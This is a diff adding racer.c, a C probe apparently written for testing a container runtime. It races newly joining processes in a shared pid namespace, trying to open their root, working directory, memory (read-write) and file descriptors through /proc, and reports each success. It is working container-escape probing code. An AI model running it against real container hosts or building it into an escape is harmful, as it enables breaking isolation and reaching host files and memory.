@@ -1,0 +1,96 @@
+/*
+ * racer.c - what an attacker runs in a container whose pid namespace others join: looks for each new process whether its
+ * root, its working directory or its descriptors can be opened, as long as it lives.
+ *
+ * Prints "ready", then a line "reached PID COMM WHAT" for each success.  Needs nothing of the image.
+ */
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+/* Pids come in order: those behind the newest are the next to appear. */
+#define LOOK_AHEAD 6
+#define TRIES 2000
+#define FDS 12
+
+static void report(int pid, const char *what)
+{
+	char path[64], name[64] = "";
+	ssize_t length;
+	int fd;
+
+	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
+	fd = open(path, O_RDONLY);
+	length = fd >= 0 ? read(fd, name, sizeof(name) - 1) : 0;
+	name[length > 0 ? length - 1 : 0] = '\0';
+	close(fd);
+	printf("reached %d %s %s\n", pid, name, what);
+	fflush(stdout);
+}
+
+/* Whether /proc/PID/WHAT leads to a directory that is not the racer's own root. */
+static void try_directory(int pid, const char *what)
+{
+	struct stat own, found;
+	char path[64];
+	int fd;
+
+	snprintf(path, sizeof(path), "/proc/%d/%s/.", pid, what);
+	fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
+	if (fd < 0)
+		return;
+	if (stat("/", &own) == 0 && fstat(fd, &found) == 0 &&
+	    (own.st_dev != found.st_dev || own.st_ino != found.st_ino))
+		report(pid, what);
+	close(fd);
+}
+
+static void try_file(int pid, const char *what, int flags)
+{
+	char path[64];
+	int fd;
+
+	snprintf(path, sizeof(path), "/proc/%d/%s", pid, what);
+	fd = open(path, flags | O_CLOEXEC);
+	if (fd < 0)
+		return;
+	report(pid, what);
+	close(fd);
+}
+
+static void try_fds(int pid)
+{
+	char what[16];
+
+	for (int fd = 0; fd < FDS; fd++) {
+		snprintf(what, sizeof(what), "fd/%d", fd);
+		try_file(pid, what, O_PATH);
+	}
+}
+
+int main(void)
+{
+	int next = getpid() + 1;
+
+	puts("ready");
+	fflush(stdout);
+	for (;;) {
+		for (int pid = next; pid < next + LOOK_AHEAD; pid++) {
+			char path[32];
+
+			snprintf(path, sizeof(path), "/proc/%d", pid);
+			if (access(path, F_OK) < 0)
+				continue;
+			for (int i = 0; i < TRIES && access(path, F_OK) == 0; i++) {
+				try_directory(pid, "root");
+				try_directory(pid, "cwd");
+				try_file(pid, "mem", O_RDWR);
+				try_fds(pid);
+			}
+			next = access(path, F_OK) == 0 ? pid : pid + 1;
+		}
+	}
+}
